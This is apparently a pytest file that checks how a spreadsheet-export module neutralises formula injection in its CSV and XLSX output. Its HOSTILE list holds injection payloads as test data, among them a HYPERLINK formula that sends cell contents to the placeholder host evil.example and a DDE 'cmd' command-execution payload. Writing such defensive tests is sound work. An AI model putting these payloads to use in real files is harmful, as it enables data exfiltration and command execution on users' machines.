"""Spreadsheet formula injection: a value a cadre typed, an import brought or a form's title
carried must never become a formula in the department's spreadsheet program.

CSV cells starting with ``= + - @``, a tab or a carriage return are prefixed with a single
quote (OWASP's advice); plain numbers such as ``-12.5`` stay as they are. XLSX cells are
written as strings, which no spreadsheet evaluates.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from onesheet.export import RenderRow, write_csv, write_xlsx
from onesheet.export.csv_out import neutralise
from tests.unit.test_export_xlsx import CTX, dibao_spec, person

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=1+1",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["-12.5", "12", "+86", "-3", "1e5", "张三", "", "a=b", "2026-11-30", "—"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_looking_text_gets_a_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_numbers_and_text_are_untouched(value: str) -> None:
    assert neutralise(value) == value


def _hostile_rows() -> list[RenderRow]:
    rows = []
    for i, value in enumerate(HOSTILE):
        rows.append(person(value, "男", f"3305231965010112{i:02d}", value, Decimal("-12.5"), i))
    return rows


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_report_neutralises_every_cell_it_writes(tmp_path: Path) -> None:
    spec = dibao_spec(
        title='=HYPERLINK("http://evil.example","标题")',
        unit_line="@SUM(1) {org_name}",
        footer_lines=["+1+1 填表人"],
    )
    spec.layout.heading_rows[0][7] = "-1+1"  # a heading as typed into the legacy form
    out = tmp_path / "hostile.csv"
    write_csv(spec, _hostile_rows(), out, CTX, excel_safe=True)
    rows = _read(out)
    assert rows[0] == ['\'=HYPERLINK("http://evil.example","标题")']
    assert rows[1] == ["'@SUM(1) 城关镇人民政府"]
    assert rows[2][7] == "'-1+1"
    assert rows[-1] == ["'+1+1 填表人"]
    data = rows[4 : 4 + len(HOSTILE)]
    for value, row in zip(HOSTILE, data, strict=True):
        assert row[1] == row[3] == "'" + value  # household head and name
        assert row[2] == "-12.5"  # a negative number stays a number
        assert row[5].startswith("\t3305231965")  # excel_safe's own tab is kept for IDs
    every = [cell for row in rows for cell in row]
    assert not [c for c in every if c[:1] in ("=", "+", "@", "\r") or c.startswith("\t=")]
    assert not [c for c in every if c.startswith("-") and c != "-12.5"]


def test_xlsx_writes_formula_looking_values_as_strings(tmp_path: Path) -> None:
    spec = dibao_spec(title="=1+1")
    out = tmp_path / "hostile.xlsx"
    rows = _hostile_rows()
    rows[0] = RenderRow(
        rows[0].cells, household=rows[0].household, missing=[(4, "=1+1")], entity_label="@SUM(1)"
    )
    write_xlsx(spec, rows, out, CTX)
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert ws["A1"].value == "=1+1" and ws["A1"].data_type == "s"
    names = [c for c in cells if c.value in HOSTILE]
    assert len(names) >= len(HOSTILE) and all(c.data_type == "s" for c in names)
    missing = [c for row in wb["待采集"].iter_rows() for c in row if c.value is not None]
    assert {"@SUM(1)", "=1+1"} <= {c.value for c in missing}
    assert all(c.data_type == "s" for c in missing)
